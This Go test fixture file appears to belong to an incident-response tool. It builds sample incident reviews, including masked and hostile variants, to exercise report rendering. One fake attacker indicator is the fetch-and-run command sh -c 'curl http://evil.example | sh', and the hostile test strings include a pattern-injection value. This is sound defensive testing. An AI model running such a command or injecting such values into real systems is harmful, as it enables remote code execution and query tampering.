// Package reviews has reviews for the tests of what is made of one: a whole
// incident, an empty one, one whose reader sees little, and ones that are full of
// hostile text.
package reviews

import (
	"fmt"
	"math"
	"reflect"
	"strings"
	"testing"
	"time"

	"firebreak/incident"
	"firebreak/internal/testkit"
	"firebreak/record"
	"firebreak/review"
)

// Empty is the review of an incident that was opened and nothing more.
func Empty(t *testing.T, key string) review.Review { t.Helper(); return build(t, key, nil) }

func build(t *testing.T, key string, more []record.Draft) review.Review {
	t.Helper()
	by := incident.Actor{ID: "k-ada", Name: "Ada Okafor"}
	opened, err := record.NewDraft(by, record.IncidentOpened, incident.Identify, "", record.Opened{
		Title: "Deploy key used from an unknown address", Severity: incident.SEV2, TLP: incident.TLPAmber,
	})
	if err != nil {
		t.Fatal(err)
	}
	var entries []record.Entry
	for n, d := range append([]record.Draft{opened}, more...) {
		entries = append(entries, record.Entry{
			Seq: int64(n + 1), Time: testkit.Start().Add(time.Duration(n) * time.Minute), Actor: d.Actor, Kind: d.Kind, Phase: d.Phase, Step: d.Step, Fields: d.Fields,
		})
	}
	r, err := review.Build(entries, review.Extra{
		Head: record.Head{Origin: "firebreak-7c1f/2026-0007", Size: int64(len(entries)), Root: strings.Repeat("9f2c77ab", 8)},
		Now:  testkit.Start().Add(26 * time.Hour), Tool: "firebreak 0.1.0", Key: []byte(key),
	})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// Rich is the review of an incident of which much is known.
func Rich(t *testing.T, key string) review.Review {
	t.Helper()
	r := build(t, key, nil)
	at := testkit.Start()
	act := func(seq int64, after time.Duration) review.Act {
		return review.Act{Seq: seq, Time: at.Add(after), By: "Ada Okafor"}
	}
	num := func(f float64) *float64 { return &f }
	subject := func(seq int64, kind, value, role, as string) review.Subject {
		return review.Subject{Subject: record.Subject{Kind: kind, Value: value, Role: role, As: as, Note: "it stands in e2"}, Act: act(seq, time.Hour)}
	}
	r.Incident.Status, r.Incident.Closed, r.Incident.Detected = incident.Closed, at.Add(25*time.Hour), at.Add(-14*time.Minute)
	r.Incident.Roles = map[incident.Role]string{incident.Commander: "Ada Okafor"}
	r.Indicators = []review.Subject{
		subject(20, "address", "203.0.113.9", "attacker", ""), subject(21, "address", "2001:DB8::0:9", "attacker", ""),
		subject(22, "address", "198.51.100.77/24", "attacker", ""), subject(23, "domain", "Evil[.]example", "attacker", ""),
		subject(24, "url", "hxxps://evil[.]example/a?b=it's", "attacker", ""), subject(25, "mail", "bad.guy@EVIL.example", "attacker", ""),
		subject(26, "hash", strings.Repeat("d41d8cd9", 4), "attacker", ""), subject(27, "hash", strings.Repeat("d41d8cd9", 5), "attacker", ""),
		subject(28, "hash", "sha256:"+strings.Repeat("9F2C77AB", 8), "attacker", ""), subject(29, "hash", strings.Repeat("9f2c77ab", 16), "attacker", ""),
		subject(30, "path", "/tmp/.x/kworkerd", "attacker", ""), subject(31, "path", `C:\Users\o'neil\evil.exe`, "attacker", ""),
		subject(32, "path", "/dev/shm/", "attacker", ""), subject(33, "process", `sh -c 'curl http://evil.example | sh' \`, "attacker", ""),
		subject(34, "account", "svc_bad", "attacker", ""), subject(35, "phone", "+49 30 901820", "attacker", ""),
		subject(36, "hash", "not a hash", "attacker", ""), subject(37, "address", "203.0.113.9:443", "attacker", ""), // the first again
	}
	r.Subjects = []review.Subject{
		subject(40, "host", "build-1", "victim", "the build host"), subject(41, "person", "Mara Ilves", "victim", ""),
		subject(42, "address", "10.1.2.3", "victim", ""), subject(43, "mail", "mara@corp.example", "victim", ""),
		subject(44, "iban", "DE89370400440532013000", "victim", ""), subject(45, "host", "ci.vendor.example", "third-party", ""),
		subject(46, "person", "Jun Lindqvist", "responder", ""), subject(47, "account", "mara", "victim", ""),
	}
	r.Techniques = []review.TechniqueUse{
		{ID: "T1078.004", Name: "Valid Accounts: Cloud Accounts", First: at.Add(-2 * time.Hour), Last: at.Add(-time.Hour), Sources: []string{"stated"}, Texts: []string{"the key was used"}, Events: []string{"EV1", "EV2"}, Held: "failed", Seqs: []int64{12, 13}},
		{ID: "T1566.001", Name: "Phishing: Spearphishing Attachment", Sources: []string{"tag"}, Seqs: []int64{14}},
		{ID: "T1110", Sources: []string{"finding"}, Held: "held", Seqs: []int64{15}},
		{ID: "T0866", Name: "Exploitation of Remote Services", Sources: []string{"stated"}, Seqs: []int64{16}},
		{ID: "not one", Sources: []string{"tag"}, Seqs: []int64{17}},
	}
	r.Controls = []review.Control{
		{Control: record.Control{ID: "c1", Refs: []string{"csf:PR.AA-03", "cis:6.3"}, Held: "failed", Techniques: []string{"T1078.004"}, Text: "no second factor on keys"}, Act: act(50, time.Hour)},
		{Control: record.Control{ID: "c2", Refs: []string{"csf:DE.CM-01"}, Held: "held", Techniques: []string{"T1110"}, Text: "lockout after five tries"}, Act: act(51, time.Hour)},
	}
	r.Impact = []review.Measured{
		{Impact: record.Impact{Measure: "systems", Low: num(3), High: num(3), Certainty: "confirmed"}, Act: act(60, time.Hour), Shown: "3 systems"},
		{Impact: record.Impact{Measure: "people", Low: num(40), High: num(60), Certainty: "estimated"}, Act: act(61, time.Hour), Shown: "40 to 60 people"},
		{Impact: record.Impact{Measure: "records", Class: "Medical", Place: "DE", Low: num(1200), High: num(1200), Certainty: "suspected"}, Act: act(62, time.Hour), Shown: "1,200 records"},
		{Impact: record.Impact{Measure: "money", Low: num(8000), High: num(12000.5), Unit: "EUR", Certainty: "estimated"}, Act: act(63, time.Hour), Shown: "EUR 8,000 to 12,000.50"},
		{Impact: record.Impact{Measure: "downtime", Class: "the shop", Low: num(95), High: num(95), Unit: "minutes", From: at, To: at.Add(95 * time.Minute), Certainty: "confirmed"}, Act: act(64, time.Hour), Shown: "1 h 35 min"},
		{Impact: record.Impact{Measure: "records", Class: "Payment", Certainty: "excluded"}, Act: act(65, time.Hour), Shown: "none"},
	}
	r.Moments = []review.Moment{
		{Key: "occurred", Title: "Occurred", At: at.Add(-126 * time.Minute), Known: true, Stated: true, Seq: 70},
		{Key: "detected", Title: "Detected", At: at.Add(-14 * time.Minute), Known: true, Seq: 1},
		{Key: "contained", Title: "Contained", At: at.Add(50 * time.Minute), Known: true, Seq: 71},
		{Key: "eradicated", Title: "Eradicated", Reason: "nobody said"},
	}
	r.Detection = review.Detection{Caught: []review.Catch{{Act: act(2, 0), At: at.Add(-14 * time.Minute), What: "alert", Text: "GitHub: key used from an unknown address"}}}
	r.Timeline = append(r.Timeline,
		review.Row{Time: at.Add(-126 * time.Minute), Evidence: true, Seq: 12, Ref: "e2 @48111", Event: "EV1", Who: "auth build-1", Text: "Accepted publickey for deploy from 203.0.113.9 port 50122", Star: true, Tags: []string{"initial-access"}, Fine: "s", Side: review.Attacker, Techniques: []string{"T1078.004"}, Discovered: at.Add(4 * time.Minute)},
		review.Row{Time: at.Add(-15 * time.Minute), Evidence: true, Seq: 13, Ref: "e2 @50001", Event: "EV2", Text: "git-upload-pack 'acme/widgets' by deploy from 203.0.113.9.", Comments: []string{"Jun Lindqvist: that is the clone"}, Side: review.Attacker},
		review.Row{Evidence: true, Seq: 14, Ref: "e1", Event: "EV3", Text: "deleted but open: /tmp/.x/kworkerd", Side: review.Evidence},
	)
	r.Actions = []review.Action{
		{ID: "a1", Name: "linux.nft.block", Title: "Block an address", Target: "203.0.113.9", Danger: incident.Medium, Phase: incident.Contain, State: "verified", Planned: act(80, 5*time.Minute), Changed: act(82, 7*time.Minute), Attempts: 1, Standing: "in effect, confirmed by the other side", Effects: []string{"nothing more leaves for 203.0.113.9"}},
		{ID: "a2", Name: "github.repo.archive", Title: "Archive the repository", Target: "acme/widgets", State: "rejected", Planned: act(83, 8*time.Minute), Changed: act(84, 9*time.Minute), Standing: "refused by a person, never sent"},
	}
	r.Runs = []review.Run{{ID: "r1", Playbook: "stolen-key", Steps: []review.Step{
		{ID: "scope", Title: "What did the key reach?", Phase: incident.Identify, State: "done", Changed: &review.Act{Seq: 90, Time: at.Add(10 * time.Minute)}},
		{ID: "wall", Title: "Watch", State: "never reached"},
	}}}
	r.Findings = []review.Finding{{Act: act(91, time.Hour), ID: "f-1", Severity: "high", Title: "Login from a new country", About: "deploy", Says: "auth.log", Technique: "T1078.004", First: at.Add(-126 * time.Minute), Why: "nobody of us was there"}}
	r.Items = []review.Item{
		{Item: record.Item{ID: "i1", Text: "Second factor on deploy keys", Class: "prevent"}, Seq: 95, At: at.Add(24 * time.Hour), State: "open", Link: "https://github.example/acme/widgets/issues/7"},
		{Item: record.Item{ID: "i2", Text: "Alert on keys from new networks", Class: "detect"}, Seq: 96, At: at.Add(24 * time.Hour), State: "verified"},
	}
	return r
}

// Masked is the rich review as a reader who sees little gets it.
func Masked(t *testing.T, key string) review.Review {
	t.Helper()
	r := Rich(t, key)
	r.Incident.Title, r.Incident.Roles, r.Withheld = "", nil, 12
	for i := range r.Subjects {
		r.Subjects[i].Value, r.Subjects[i].Note, r.Subjects[i].By = record.WithheldMark, record.WithheldMark, ""
	}
	for i := range r.Timeline {
		r.Timeline[i].Text, r.Timeline[i].Who, r.Timeline[i].Comments, r.Timeline[i].Tags = record.WithheldMark, "", nil, nil
	}
	for i := range r.Actions {
		r.Actions[i].Title, r.Actions[i].Target, r.Actions[i].Effects = "", "", nil
	}
	for i := range r.Impact {
		r.Impact[i].Low, r.Impact[i].High, r.Impact[i].Shown, r.Impact[i].Class = nil, nil, "", ""
	}
	for i := range r.Findings {
		r.Findings[i].About, r.Findings[i].Why, r.Findings[i].Technique = record.WithheldMark, record.WithheldMark, ""
	}
	for i := range r.Techniques {
		r.Techniques[i].Texts, r.Techniques[i].Events = nil, nil
	}
	return r
}

// Hostile is the rich review with one text in the place of every text that people
// or machines wrote, n numbers as large as they come, and times at the edges.
func Hostile(t *testing.T, text string) review.Review {
	t.Helper()
	r := Rich(t, "k")
	fill(reflect.ValueOf(&r).Elem(), text)
	r.Format = review.Format
	return r
}

// Texts are the hostile texts, and one that is very long.
func Texts() []string {
	return append(testkit.Hostile(), strings.Repeat("long \U0001F600\x00 ", 60), "'] OR [file:name = 'x", `\`, "'", "", "T1078", "203.0.113.9", "(withheld)")
}

func fill(v reflect.Value, text string) {
	switch v.Kind() { //nolint:exhaustive // the other kinds hold nothing hostile
	case reflect.String:
		v.SetString(text)
	case reflect.Float64:
		v.SetFloat(math.MaxFloat64)
	case reflect.Struct:
		if at, ok := v.Addr().Interface().(*time.Time); ok {
			*at = at.AddDate(len(text)%3-1, 0, 0)
			return
		}
		for i := range v.NumField() {
			if f := v.Field(i); f.CanSet() {
				fill(f, text)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			fill(v.Index(i), text)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			fill(v.Elem(), text)
		}
	case reflect.Map:
		if v.IsNil() || v.Type().Elem().Kind() != reflect.String {
			return
		}
		for _, k := range v.MapKeys() {
			v.SetMapIndex(k, reflect.ValueOf(text).Convert(v.Type().Elem()))
		}
	default:
	}
}

// Each runs a test over every kind of review.
func Each(t *testing.T, do func(*testing.T, review.Review)) {
	t.Helper()
	run := func(name string, r review.Review) { t.Run(name, func(t *testing.T) { do(t, r) }) }
	run("empty", Empty(t, "k"))
	run("nothing at all", review.Review{})
	run("rich", Rich(t, "k"))
	run("masked", Masked(t, "k"))
	drill := Rich(t, "k")
	drill.Incident.Drill, drill.Incident.TLP = true, ""
	drill.Edition, drill.Readers.Banner = &review.Edition{Release: "v1", For: "counsel", Draft: true}, "PRIVILEGED"
	run("drill without a label", drill)
	for n, text := range Texts() {
		r := Hostile(t, text)
		if n%4 == 0 {
			run(fmt.Sprint("hostile kinds ", n), r)
		}
		r.Indicators = Rich(t, "k").Indicators // the kinds are right, so that the values are used
		for i := range r.Indicators {
			r.Indicators[i].Value = text
		}
		run(fmt.Sprint("hostile values ", n), r)
	}
}
